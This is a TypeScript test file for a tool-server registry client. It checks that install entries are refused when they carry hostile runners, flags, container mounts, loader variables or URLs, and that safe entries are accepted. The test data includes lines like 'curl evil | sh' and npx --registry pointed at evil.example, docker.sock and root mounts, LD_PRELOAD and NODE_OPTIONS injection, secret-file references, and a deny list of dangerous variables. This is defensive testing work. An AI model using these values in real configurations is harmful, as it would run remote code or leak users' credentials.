import { findInstallProblems, installOffers, validateDocument } from '@parley/registry/client'
import { describe, expect, it } from 'vitest'

import { documentOf, openRegistry } from '../registry-under-test.ts'

const stdio = { transport: { type: 'stdio' } }
const npm = { registryType: 'npm', identifier: '@ada/weather', version: '1.0.0', ...stdio }
const pypi = { registryType: 'pypi', identifier: 'weather', version: '1.0', ...stdio }
const oci = { registryType: 'oci', identifier: 'ghcr.io/ada/weather:1.0.0', ...stdio }
const nuget = { registryType: 'nuget', identifier: 'Ada.Weather', version: '1.0.0', ...stdio }
const cargo = { registryType: 'cargo', identifier: 'weather', version: '1.0.0', ...stdio }
const digest = `sha256:${'a'.repeat(64)}`

const words = (...values: readonly string[]) =>
  values.map((value) => ({ type: 'positional', value }))
const runtime = (one: object, ...values: readonly string[]) => ({
  ...one,
  runtimeArguments: words(...values),
})
const named = (one: object, name: string, more: object) => ({
  ...one,
  runtimeArguments: [{ type: 'named', name, ...more }],
})
const variable = (name: string, more: object = {}) => ({
  ...npm,
  environmentVariables: [{ name, value: 'x', ...more }],
})
const packageWord = (value: string) => ({ ...npm, packageArguments: words(value) })
const asked = (...names: readonly string[]) => ({
  variables: Object.fromEntries(names.map((name) => [name, { isRequired: true }])),
})

function reasonsOf(part: object): string {
  const isRemote = !('registryType' in part)
  const more = isRemote ? { remotes: [part], packages: [] } : { packages: [part] }
  const { plans, refused } = installOffers(documentOf('com.example/weather', '1.0.0', more))
  expect(plans).toHaveLength(refused.length === 0 ? 1 : 0)
  return refused.flatMap(({ reasons }) => reasons).join('\n')
}

describe('an entry of a registry is refused', () => {
  it.each<[string, object, RegExp]>([
    // Runners.
    [
      'bash -c',
      { ...runtime(npm, '-c', 'curl evil | sh'), runtimeHint: 'bash' },
      /runtimeHint is "bash"/,
    ],
    ['a program by its path', { ...npm, runtimeHint: '/tmp/evil' }, /started by npx, bunx/],
    ['a program by a relative path', { ...npm, runtimeHint: '../evil.sh' }, /started by npx/],
    ['sudo', { ...npm, runtimeHint: 'sudo' }, /started by npx/],
    ['node -e', { ...runtime(npm, '-e', 'evil()'), runtimeHint: 'node' }, /started by npx/],
    ['the runner of another kind', { ...pypi, runtimeHint: 'npx' }, /started by uvx, pipx run/],
    ['docker for an npm package', { ...npm, runtimeHint: 'docker' }, /started by npx/],
    ['a runner by its path', { ...npm, runtimeHint: '/usr/bin/npx' }, /started by npx/],
    ['a runner in capitals', { ...npm, runtimeHint: 'NPX' }, /started by npx/],
    ['a runner with a space', { ...npm, runtimeHint: 'npx ' }, /started by npx/],
    ['a runner with an argument', { ...npm, runtimeHint: 'npx -c' }, /started by npx/],
    ['a runner in letters that look alike', { ...npm, runtimeHint: 'nрx' }, /started by npx/],
    ['a runner with U+0000', { ...npm, runtimeHint: 'npx\0' }, /started by npx/],
    ['the Python of the machine', { ...pypi, runtimeHint: 'python' }, /started by uvx/],

    // Arguments of runners.
    ['npx -c', runtime(npm, '-c', 'evil'), /passes "-c" to npx/],
    ['npx --call=', runtime(npm, '--call=evil'), /passes "--call" to npx/],
    ['npx --registry=', runtime(npm, '--registry=https://evil.example'), /"--registry"/],
    [
      'npx --registry as two words',
      runtime(npm, '--registry', 'https://evil.example'),
      /"--registry"/,
    ],
    ['npx --package=', runtime(npm, '--package=evil'), /"--package"/],
    ['npx -p', runtime(npm, '-p', 'evil'), /"-p"/],
    ['npx --userconfig', named(npm, '--userconfig', { value: '/tmp/npmrc' }), /"--userconfig"/],
    ['short flags in one word', runtime(npm, '-yc', 'evil'), /"-yc"/],
    ['a value for a switch', runtime(npm, '--yes=false'), /"--yes"/],
    ['a value for a switch of the list', runtime(npm, '--offline=false'), /has none/],
    ['another package before the own', runtime(npm, '-y', 'evil'), /"evil"/],
    ['another version of the package', runtime(npm, '@ada/weather@2.0.0'), /"@ada\/weather@2.0.0"/],
    ['a named switch with a value', named(npm, '-y', { value: 'evil' }), /"evil"/],
    ['an end of options', runtime(npm, '--', 'evil'), /"--"/],
    ['flags in capitals', runtime(npm, '--REGISTRY=https://evil.example'), /"--REGISTRY"/],
    ['two words in one', runtime(npm, '-y evil'), /"-y evil"/],
    ['an empty word', runtime(npm, ''), /passes "" to npx/],
    ['a dash that looks like one', runtime(npm, '‐y'), /passes/],
    [
      'a flag that the user is asked for',
      { ...npm, runtimeArguments: [{ type: 'positional', valueHint: 'flag' }] },
      /passes "\{…\}"/,
    ],
    [
      'a flag among the choices',
      { ...npm, runtimeArguments: [{ type: 'positional', valueHint: 'x', choices: ['-c', '-y'] }] },
      /"-c"/,
    ],
    [
      'a flag as a default',
      {
        ...npm,
        runtimeArguments: [{ type: 'positional', valueHint: 'x', default: '--call=evil' }],
      },
      /"--call"/,
    ],
    ['uvx --index-url', runtime(pypi, '--index-url', 'https://evil.example'), /"--index-url"/],
    ['uvx --index-url=', runtime(pypi, '--index-url=https://evil.example'), /"--index-url"/],
    ['uvx --from', runtime(pypi, '--from', 'git+https://evil.example/x'), /"--from"/],
    ['uvx --with', runtime(pypi, '--with', 'evil'), /"--with"/],
    ['uvx --python by path', runtime(pypi, '--python', '/tmp/evil'), /release of Python/],
    ['uvx --python as a flag', named(pypi, '--python', { value: '--from' }), /release of Python/],
    ['pipx run --spec', { ...runtime(pypi, '--spec', 'evil'), runtimeHint: 'pipx' }, /"--spec"/],
    [
      'pipx --pip-args',
      { ...runtime(pypi, '--pip-args=--index-url=x'), runtimeHint: 'pipx run' },
      /"--pip-args"/,
    ],
    ['dnx --add-source', runtime(nuget, '--add-source', 'https://evil.example'), /"--add-source"/],
    ['dnx --configfile', runtime(nuget, '--configfile=/tmp/x'), /"--configfile"/],
    ['cargo --git', runtime(cargo, '--git', 'https://evil.example'), /"--git"/],
    ['cargo --config', runtime(cargo, '--config=net.git-fetch-with-cli=true'), /"--config"/],
    [
      'deno with an import map',
      { ...runtime(npm, '--import-map=https://evil.example'), runtimeHint: 'deno' },
      /"--import-map"/,
    ],
    [
      'deno with a script',
      { ...runtime(npm, 'run', 'https://evil.example/x.ts'), runtimeHint: 'deno' },
      /passes "https/,
    ],
    [
      'bunx --package',
      { ...runtime(npm, '--package', 'evil'), runtimeHint: 'bunx' },
      /"--package"/,
    ],
    ['pnpm dlx --shell-mode', { ...runtime(npm, '-c', 'evil'), runtimeHint: 'pnpm dlx' }, /"-c"/],

    // Containers.
    ['docker --privileged', runtime(oci, '--privileged'), /"--privileged"/],
    ['all of the disk', runtime(oci, '-v', '/:/host'), /gives away "\/"/],
    ['all of the disk with =', runtime(oci, '--volume=/:/host'), /gives away "\/"/],
    [
      'the socket of docker',
      runtime(oci, '-v', '/var/run/docker.sock:/var/run/docker.sock'),
      /gives away/,
    ],
    [
      'the socket as a mount',
      runtime(oci, '--mount', 'type=bind,src=/var/run/docker.sock,dst=/s'),
      /gives away/,
    ],
    ['the settings of the system', runtime(oci, '-v', '/etc:/etc:ro'), /gives away/],
    [
      'a folder of its own choice',
      runtime(oci, '-v', '/home/ada/.ssh:/k'),
      /must be the whole answer|not the answer/,
    ],
    ['a volume of another program', runtime(oci, '-v', 'postgres_data:/k'), /whole answer/],
    [
      'a folder as a default',
      named(oci, '-v', { value: '{d}:/k', variables: { d: { default: '/home/ada/.ssh' } } }),
      /answer/,
    ],
    [
      'a folder among choices',
      named(oci, '-v', { value: '{d}:/k', variables: { d: { choices: ['/home/ada/.ssh'] } } }),
      /answer/,
    ],
    ['a part of a folder', named(oci, '-v', { value: '/{d}:/k', ...asked('d') }), /whole answer/],
    [
      'a way out of a folder',
      named(oci, '-v', { value: '{d}/..:/k', ...asked('d') }),
      /whole answer/,
    ],
    [
      'a mount with options',
      named(oci, '--mount', { value: 'type=volume,volume-opt=device=/,dst=/x' }),
      /volume-opt/,
    ],
    [
      'a mount that is passed on',
      named(oci, '--mount', {
        value: 'type=bind,src={d},dst=/x,bind-propagation=shared',
        ...asked('d'),
      }),
      /bind-propagation/,
    ],
    ['the network of the machine', runtime(oci, '--network', 'host'), /none or bridge/],
    ['the network with =', runtime(oci, '--network=container:db'), /none or bridge/],
    ['--net', runtime(oci, '--net=host'), /"--net"/],
    ['processes of the machine', runtime(oci, '--pid=host'), /"--pid"/],
    ['a capability', runtime(oci, '--cap-add=SYS_ADMIN'), /"--cap-add"/],
    ['a device', runtime(oci, '--device', '/dev/sda'), /"--device"/],
    ['no profile', runtime(oci, '--security-opt', 'seccomp=unconfined'), /no-new-privileges/],
    ['a file of variables', runtime(oci, '--env-file', '/home/ada/.env'), /"--env-file"/],
    [
      'a variable of the user',
      runtime(oci, '-e', 'AWS_SECRET_ACCESS_KEY'),
      /takes AWS_SECRET_ACCESS_KEY from/,
    ],
    ['-e with =', runtime(oci, '-e=AWS_SECRET_ACCESS_KEY'), /passes/],
    ['-v in one word', runtime(oci, '-v/:/host'), /passes/],
    ['a port for everybody', runtime(oci, '-p', '8080:8080'), /127\.0\.0\.1/],
    ['a terminal', runtime(oci, '-it'), /"-it"/],
    ['another image', runtime(oci, 'evil.example/x:1'), /passes "evil/],

    // Names and versions.
    ['a flag as a name', { ...npm, identifier: '--call=evil' }, /identifier is not the name/],
    ['a URL as a name', { ...npm, identifier: 'https://evil.example/x.tgz' }, /identifier/],
    ['git as a name', { ...npm, identifier: 'git+ssh://git@evil.example/x' }, /identifier/],
    ['a folder as a name', { ...npm, identifier: 'file:/tmp/evil' }, /identifier/],
    ['a relative folder as a name', { ...npm, identifier: './evil' }, /identifier/],
    ['an alias as a name', { ...npm, identifier: 'weather@npm:evil' }, /identifier/],
    ['a repository as a name', { ...npm, identifier: 'evil/repo#main' }, /identifier/],
    ['a name with a version', { ...npm, identifier: 'weather@2.0.0' }, /identifier/],
    ['a name with letters of another script', { ...npm, identifier: 'wеather' }, /identifier/],
    ['a name with a line break', { ...npm, identifier: 'weather\n' }, /identifier/],
    ['a name with a space', { ...npm, identifier: 'weather -c' }, /identifier/],
    ['a scope that goes up', { ...npm, identifier: '@ada/../evil' }, /identifier/],
    ['a very long name', { ...npm, identifier: 'a'.repeat(300) }, /identifier/],
    ['a name with extras', { ...pypi, identifier: 'weather[evil]' }, /identifier/],
    [
      'a requirement as a name',
      { ...pypi, identifier: 'weather @ https://evil.example' },
      /identifier/,
    ],
    [
      'the interpreter as a name',
      { ...pypi, identifier: 'python', version: '3.12' },
      /starts the Python/,
    ],
    ['the interpreter with a version', { ...pypi, identifier: 'Python3.12' }, /starts the Python/],
    ['a crate with a path', { ...cargo, identifier: '../bin/sh' }, /identifier/],
    ['a package of NuGet with a flag', { ...nuget, identifier: '-s' }, /identifier/],
    ['no version', { ...npm, version: undefined }, /version is missing/],
    ['an empty version', { ...npm, version: '' }, /version/],
    ['the tag latest', { ...npm, version: 'latest' }, /version/],
    ['another tag', { ...npm, version: 'beta' }, /version is not one exact/],
    ['a range', { ...npm, version: '^1.0.0' }, /version is not one exact/],
    ['a tag that looks like a version', { ...npm, version: '99999999999999999999.0.0' }, /version/],
    ['half a version', { ...npm, version: '1.0' }, /version is not one exact/],
    ['any version', { ...npm, version: '*' }, /version is not one exact/],
    [
      'a URL as a version',
      { ...npm, version: 'https://evil.example/x.tgz' },
      /version is not one exact/,
    ],
    ['an alias as a version', { ...npm, version: 'npm:evil@1.0.0' }, /version is not one exact/],
    ['a version with a flag', { ...npm, version: '1.0.0 --call=evil' }, /version is not one exact/],
    ['a version with a line break', { ...npm, version: '1.0.0\n' }, /version is not one exact/],
    ['a range of Python', { ...pypi, version: '1.*' }, /version is not one exact/],
    ['an image of tomorrow', { ...oci, identifier: 'ghcr.io/ada/weather:latest' }, /tag latest/],
    ['an image without a tag', { ...oci, identifier: 'ghcr.io/ada/weather' }, /tag or digest/],
    ['an image with a flag', { ...oci, identifier: '--privileged' }, /tag or digest/],
    ['an image with two tags', { ...oci, version: '2.0.0' }, /tag or digest/],
    ['half a digest', { ...oci, identifier: 'ghcr.io/ada/weather@sha256:abc' }, /tag or digest/],
    [
      'an image of a private network',
      { ...oci, identifier: '10.0.0.1/ada/weather:1' },
      /not an image registry/,
    ],
    [
      'an image of this machine',
      { ...oci, identifier: 'localhost:5000/ada/weather:1' },
      /not an image registry/,
    ],
    ['an image without a host', { ...oci, identifier: 'ada/weather:1' }, /not an image registry/],
    ['an unknown kind', { ...npm, registryType: 'brew' }, /registryType is unknown/],
    ['a kind in capitals', { ...npm, registryType: 'NPM' }, /registryType is unknown/],
    ['a bundle', { ...npm, registryType: 'mcpb' }, /not supported yet: download/],

    // Variables.
    ...'NODE_OPTIONS LD_PRELOAD PATH Path npm_config_registry NPM_CONFIG_REGISTRY UV_INDEX_URL HTTPS_PROXY https_proxy ALL_PROXY MY_PROXY NODE_TLS_REJECT_UNAUTHORIZED BASH_ENV PYTHONPATH PythonStartup DYLD_INSERT_LIBRARIES DOTNET_STARTUP_HOOKS JAVA_TOOL_OPTIONS RUBYOPT PERL5OPT GIT_SSH_COMMAND DOCKER_HOST SSL_CERT_FILE PIP_INDEX_URL CARGO_BUILD_RUSTC_WRAPPER RUSTC_WRAPPER GOFLAGS DENO_DIR BUN_INSTALL HOME XDG_CONFIG_HOME IFS ENV PSModulePath COMSPEC GLIBC_TUNABLES LUA_INIT_5_4 OPENSSL_CONF'
      .split(' ')
      .map((name): [string, object, RegExp] => [
        `${name} fixed`,
        variable(name),
        /changes how programs/,
      ]),
    [
      'a loader as a default',
      variable('NODE_OPTIONS', { value: undefined, default: '--require=/tmp/x' }),
      /changes how/,
    ],
    [
      'a proxy among choices',
      variable('HTTP_PROXY', { value: undefined, choices: ['http://evil.example'] }),
      /changes how/,
    ],
    ['a loader that is asked for', variable('LD_PRELOAD', { value: undefined }), /changes how/],
    ['a function of the shell', variable('BASH_FUNC_x%%'), /not the name of a variable/],
    ['a variable with =', variable('A=B'), /not the name of a variable/],
    ['a variable with U+0000', variable('A\0'), /not the name of a variable/],
    ['a variable in full-width letters', variable('ＰＡＴＨ'), /not the name of a variable/],
    ['a loader for the container', runtime(oci, '-e', 'LD_PRELOAD=/x'), /changes how/],

    // Texts.
    ['a variable of the user', packageWord('--send=${env:AWS_SECRET}'), /refers to variables/],
    ['a variable without braces', packageWord('--send=$AWS_SECRET'), /refers to variables/],
    ['a variable of opencode', packageWord('{env:AWS_SECRET}'), /refers to variables/],
    ['a file of opencode', packageWord('{file:~/.ssh/id_rsa}'), /refers to variables/],
    ['a secret of Continue', packageWord('${{ secrets.KEY }}'), /refers to variables/],
    ['a variable of Windows', packageWord('%APPDATA%'), /refers to variables/],
    ['a command in a command', packageWord('$(evil)'), /refers to variables/],
    [
      'a variable in two halves',
      {
        ...npm,
        packageArguments: [
          {
            type: 'positional',
            value: '{a}{b}',
            variables: { a: { default: '$' }, b: { default: '{HOME}' } },
          },
        ],
      },
      /part of a value|refers to variables/,
    ],
    ['quotes and &', packageWord('"&calc.exe&"'), /quotes together/],
    ['U+0000', packageWord('a\0b'), /cannot be seen/],
    ['a line break', packageWord('a\nb'), /cannot be seen/],
    ['a change of direction', packageWord('a\u202eb'), /cannot be seen/],
    ['a mark of this program', packageWord('\u{E000}'), /cannot be seen/],
    ['a very long word', packageWord('a'.repeat(5000)), /longer than 4096/],
    [
      'a secret that it brings itself',
      {
        ...npm,
        packageArguments: [{ type: 'named', name: '--eval', isSecret: true, default: 'evil()' }],
      },
      /default of a secret/,
    ],
    [
      'too many arguments',
      { ...npm, packageArguments: words(...Array.from({ length: 201 }, () => 'x')) },
      /more than 200/,
    ],
    [
      'a default of another format',
      {
        ...npm,
        packageArguments: [{ type: 'named', name: '--n', format: 'number', default: 'x' }],
      },
      /must be a number/,
    ],
    ['a number as a runner', { ...npm, runtimeHint: 7 }, /runtimeHint/],
    ['arguments that are a text', { ...npm, runtimeArguments: '-c evil' }, /runtimeArguments/],
    ['an argument that is null', { ...npm, runtimeArguments: [null] }, /runtimeArguments/],

    // Addresses.
    ['http', { type: 'sse', url: 'http://x.example/mcp' }, /not encrypted/],
    ['a user name', { type: 'sse', url: 'https://good.example@evil.example/' }, /user name/],
    ['a private address', { type: 'sse', url: 'https://10.0.0.1/' }, /private network/],
    [
      'a private address as a number',
      { type: 'sse', url: 'https://167772161/' },
      /private network/,
    ],
    [
      'a private address in IPv6',
      { type: 'sse', url: 'https://[::ffff:10.0.0.1]/' },
      /private network/,
    ],
    [
      'a link-local address',
      { type: 'sse', url: 'https://169.254.169.254/latest' },
      /private network/,
    ],
    ['a link-local address in IPv6', { type: 'sse', url: 'https://[fe80::1]/' }, /private network/],
    ['no place', { type: 'sse', url: 'https://0.0.0.0/' }, /private network/],
    ['a file', { type: 'sse', url: 'file:///etc/passwd' }, /url/],
    ['a script', { type: 'sse', url: 'javascript:alert(1)' }, /url/],
    ['a backslash', { type: 'sse', url: 'https://evil.example\\@good.example/' }, /url/],
    ['a line break in a URL', { type: 'sse', url: 'https://good.example\n.evil.example/' }, /url/],
    ['letters of another script', { type: 'sse', url: 'https://gооd.example/' }, /Punycode/],
    [
      'a variable that nobody defined',
      { type: 'sse', url: 'https://x.example/{id}' },
      /not defined/,
    ],
    ['a variable of the file', { type: 'sse', url: 'https://x.example/${env:KEY}' }, /braces/],
    [
      'a variable of opencode in a URL',
      { type: 'sse', url: 'https://x.example/{file:/etc/passwd}' },
      /braces/,
    ],
    ['a way up', { type: 'sse', url: 'https://x.example/a/%2e%2e/b' }, /\. or \.\./],
    [
      'a host as a default',
      {
        type: 'sse',
        url: 'https://{t}.good.example/',
        variables: { t: { default: 'evil.example/#' } },
      },
      /host/,
    ],
    [
      'a header of the connection',
      { type: 'sse', url: 'https://x.example/', headers: [{ name: 'Host', value: 'y' }] },
      /belongs to the connection/,
    ],
    [
      'a header with a line break',
      { type: 'sse', url: 'https://x.example/', headers: [{ name: 'A', value: 'b\r\nC: d' }] },
      /cannot be seen/,
    ],
    [
      'a header with a colon',
      { type: 'sse', url: 'https://x.example/', headers: [{ name: 'A: b', value: 'c' }] },
      /not the name of a header/,
    ],
    [
      'a package elsewhere',
      { ...npm, transport: { type: 'streamable-http', url: 'https://evil.example/mcp' } },
      /must be there/,
    ],
    [
      'a package for everybody',
      { ...npm, transport: { type: 'streamable-http', url: 'http://0.0.0.0:8080/mcp' } },
      /must be there/,
    ],
  ])('with %s', (_, part, expected) => {
    expect(reasonsOf(part)).toMatch(expected)
  })
})

describe('an entry of a registry is accepted', () => {
  const usual = (id: string) => ({ folder: '/data/maps', d: '/data/maps' })[id] ?? '7'
  it.each<[string, object, string]>([
    ['npx', npm, 'npx -y @ada/weather@1.0.0'],
    [
      'npx with what it gets anyway',
      runtime(npm, '-y', '@ada/weather@1.0.0'),
      'npx -y @ada/weather@1.0.0',
    ],
    [
      'npx with a harmless switch',
      runtime(npm, '--prefer-offline'),
      'npx -y --prefer-offline @ada/weather@1.0.0',
    ],
    ['bunx', { ...npm, runtimeHint: 'bunx' }, 'bunx @ada/weather@1.0.0'],
    ['pnpm', { ...npm, runtimeHint: 'pnpm' }, 'pnpm dlx @ada/weather@1.0.0'],
    ['deno', { ...npm, runtimeHint: 'deno' }, 'deno run --allow-all npm:@ada/weather@1.0.0'],
    [
      'deno with less',
      { ...runtime(npm, 'run', '--allow-net=maps.example'), runtimeHint: 'deno run' },
      'deno run --allow-net=maps.example npm:@ada/weather@1.0.0',
    ],
    ['uvx', pypi, 'uvx weather@1.0'],
    ['uvx with a Python', runtime(pypi, '--python=3.12'), 'uvx --python=3.12 weather@1.0'],
    ['pipx', { ...pypi, runtimeHint: 'pipx' }, 'pipx run --spec weather==1.0 weather'],
    ['dnx', { ...nuget, packageArguments: words('serve') }, 'dnx Ada.Weather@1.0.0 --yes -- serve'],
    ['docker', oci, 'docker run -i --rm ghcr.io/ada/weather:1.0.0'],
    [
      'docker with what it gets anyway',
      runtime(oci, 'run', '-i', '--rm'),
      'docker run -i --rm ghcr.io/ada/weather:1.0.0',
    ],
    ['podman', { ...oci, runtimeHint: 'podman' }, 'podman run -i --rm ghcr.io/ada/weather:1.0.0'],
    [
      'a digest',
      { ...oci, identifier: `ghcr.io/ada/weather:1.0.0@${digest}` },
      `docker run -i --rm ghcr.io/ada/weather:1.0.0@${digest}`,
    ],
    [
      'a digest as the version',
      { ...oci, identifier: 'ghcr.io/ada/weather', version: digest },
      `docker run -i --rm ghcr.io/ada/weather@${digest}`,
    ],
    [
      'a folder of the user',
      named(oci, '-v', { value: '{d}:/maps:ro', ...asked('d') }),
      'docker run -i --rm -v /data/maps:/maps:ro ghcr.io/ada/weather:1.0.0',
    ],
    [
      'a mount of the user',
      named(oci, '--mount', { value: 'type=bind,src={d},dst=/maps', ...asked('d') }),
      'docker run -i --rm --mount type=bind,src=/data/maps,dst=/maps ghcr.io/ada/weather:1.0.0',
    ],
    [
      'a variable with a value',
      named(oci, '-e', { value: 'DB={d}', ...asked('d') }),
      'docker run -i --rm -e DB=/data/maps ghcr.io/ada/weather:1.0.0',
    ],
    [
      'flags of the package itself',
      { ...npm, packageArguments: words('--registry=x', '-c', 'x') },
      'npx -y @ada/weather@1.0.0 --registry=x -c x',
    ],
    [
      'a proxy that is asked for',
      variable('HTTPS_PROXY', { value: undefined }),
      'npx -y @ada/weather@1.0.0',
    ],
    ['a harmless variable', variable('PYTHONUNBUFFERED'), 'npx -y @ada/weather@1.0.0'],
  ])('that is started by %s', (_, part, line) => {
    const { plans, refused } = installOffers(
      documentOf('com.example/weather', '1.0.0', { packages: [part] }),
    )
    expect(refused).toEqual([])

    const entry = plans[0]?.fill(({ id, default: preset }) => preset ?? usual(id))

    expect(entry).toMatchObject({ kind: 'command' })
    expect(entry?.kind === 'command' && [entry.command, ...entry.args].join(' ')).toBe(line)
  })

  it.each<[string, object, { readonly [id: string]: string }, string | RegExp]>([
    [
      'a tenant',
      { url: 'https://{t}.good.example/mcp', ...asked('t') },
      { t: 'acme' },
      'https://acme.good.example/mcp',
    ],
    [
      'another host as a tenant',
      { url: 'https://{t}.good.example/mcp', ...asked('t') },
      { t: 'evil.com/#' },
      /host/,
    ],
    [
      'a host with a dot',
      { url: 'https://{t}.good.example/mcp', ...asked('t') },
      { t: 'evil.com' },
      /host/,
    ],
    [
      'a user name as a tenant',
      { url: 'https://{t}.good.example/', ...asked('t') },
      { t: 'x@evil.com' },
      /host/,
    ],
    [
      'an encoded dot',
      { url: 'https://{t}.good.example/', ...asked('t') },
      { t: 'evil%2ecom' },
      /host/,
    ],
    ['nothing as a tenant', { url: 'https://{t}.good.example/', ...asked('t') }, { t: '' }, /host/],
    [
      'a path',
      { url: 'https://good.example/{p}/mcp', ...asked('p') },
      { p: 'a/b?c#d' },
      'https://good.example/a%2Fb%3Fc%23d/mcp',
    ],
    ['a way up', { url: 'https://good.example/{p}/mcp', ...asked('p') }, { p: '..' }, /\. or \.\./],
    [
      'a port',
      { url: 'https://good.example:{p}/mcp', ...asked('p') },
      { p: '8443' },
      'https://good.example:8443/mcp',
    ],
    [
      'a host as a port',
      { url: 'https://good.example:{p}/mcp', ...asked('p') },
      { p: '@evil.com' },
      /host/,
    ],
    [
      'a host of the user',
      { url: 'https://{h}/mcp', ...asked('h') },
      { h: 'maps.ada.example' },
      'https://maps.ada.example/mcp',
    ],
    [
      'an address of the user',
      { url: '{b}/mcp', ...asked('b') },
      { b: 'https://ada.example/x/' },
      'https://ada.example/x/mcp',
    ],
    [
      'no address of the user',
      { url: '{b}/mcp', ...asked('b') },
      { b: 'javascript:alert(1)' },
      /must be an address/,
    ],
    ['this machine', { url: 'http://127.0.0.1:8080/mcp' }, {}, 'http://127.0.0.1:8080/mcp'],
  ])('at an address with %s, or says why not', (_, part, answers, expected) => {
    const remotes = [{ type: 'streamable-http', ...part }]
    const { plans, refused } = installOffers(
      documentOf('com.example/weather', '1.0.0', { remotes }),
    )
    expect(refused).toEqual([])
    const fill = () => plans[0]?.fill(({ id }) => answers[id])

    if (typeof expected === 'string') expect(fill()).toMatchObject({ url: expected })
    else expect(fill).toThrow(expected)
  })

  it.each<[string, object, string, string]>([
    ['number', { format: 'number' }, '8080; rm', 'must be a number'],
    ['boolean', { format: 'boolean' }, 'yes', 'must be true or false'],
    ['file', { format: 'filepath' }, '--config=/tmp/x', 'must be the path'],
    ['choice', { choices: ['a', 'b'] }, 'c', 'must be one of a, b'],
    ['text', { placeholder: 'x' }, 'a\0b', 'must not contain U+0000'],
  ])('with answers of its format: a %s', (_, input, answer, expected) => {
    const packages = [{ ...npm, packageArguments: [{ type: 'named', name: '--x', ...input }] }]
    const { plans } = installOffers(documentOf('com.example/weather', '1.0.0', { packages }))

    expect(() => plans[0]?.fill(() => answer)).toThrow(`x ${expected}`)
  })

  it.each([
    '/',
    '/etc',
    '/var/run/docker.sock',
    '../x',
    'x',
    '/a/../etc',
    '/data,src=/',
    '/data:/x',
    '/home',
    'C:\\',
    '//host/share',
  ])('but not with %s as the folder that a container gets', (folder) => {
    for (const [flag, value] of [
      ['-v', '{d}:/x'],
      ['--mount', 'type=bind,src={d},dst=/x'],
    ] as const) {
      const packages = [named(oci, flag, { value, ...asked('d') })]
      const { plans } = installOffers(documentOf('com.example/weather', '1.0.0', { packages }))
      expect(() => plans[0]?.fill(() => folder)).toThrow('passes')
    }
  })

  it('and keeps a secret where another question has the same name', () => {
    const packages = [
      {
        ...npm,
        packageArguments: [{ type: 'named', name: '--TOKEN' }],
        environmentVariables: [
          { name: 'TOKEN', isSecret: true },
          { name: 'AUTH', isSecret: true, value: 'Bearer {key}', variables: { key: {} } },
        ],
      },
    ]
    const { plans } = installOffers(documentOf('com.example/weather', '1.0.0', { packages }))
    expect(plans[0]?.questions).toMatchObject([
      { id: 'TOKEN', isSecret: true },
      { id: 'key', isSecret: true },
    ])
  })
})

describe('what a client refuses', () => {
  const evil = documentOf('com.example/evil', '1.0.0', {
    packages: [
      { ...runtime(npm, '--registry=https://evil.example'), runtimeHint: 'npx' },
      { ...variable('NODE_OPTIONS') },
    ],
  })

  it('is a warning of the validator, with its place', async () => {
    expect(findInstallProblems(evil).map(({ path }) => path)).toEqual([
      'packages[0].runtimeArguments',
      'packages[1].environmentVariables[0]',
    ])
    const { isValid, issues } = validateDocument(evil)
    expect(isValid).toBe(true)
    expect(issues).toMatchObject([
      { severity: 'warning', path: 'packages[0].runtimeArguments', reference: 'install' },
      { severity: 'warning', path: 'packages[1].environmentVariables[0]', reference: 'install' },
    ])
    await using registry = await openRegistry({ database: ':memory:' })
    const { body } = await registry.ask('validate', { body: evil, token: false })
    expect(body).toMatchObject({ valid: true, issues: [{ reference: 'install' }, {}] })
  })

  it('is found behind any number of faults in the entries before it', () => {
    const many = { ...npm, packageArguments: Array.from({ length: 1_000 }, () => ({ type: 7 })) }
    const last = { registryType: 'npm', identifier: 'weather' } // no transport
    const { plans, refused } = installOffers(
      documentOf('com.example/evil', '1.0.0', { packages: [many, last] }),
    )
    expect(plans).toEqual([])
    expect(refused.map(({ title }) => title)).toEqual(['packages[0]', 'packages[1]'])
  })

  it('is told to the publisher, and offered to nobody', async () => {
    await using registry = await openRegistry({ database: ':memory:' })
    const published = await registry.publish(evil)
    expect(published.status).toBe(200)
    expect(JSON.stringify(published.body)).toContain('passes \\"--registry\\" to npx')
    const { body } = await registry.ask('x/config?name=com.example/evil')
    expect(body).toMatchObject({
      options: [],
      refused: [{ title: 'npm @ada/weather@1.0.0' }, { title: 'npm @ada/weather@1.0.0' }],
    })
  })
})
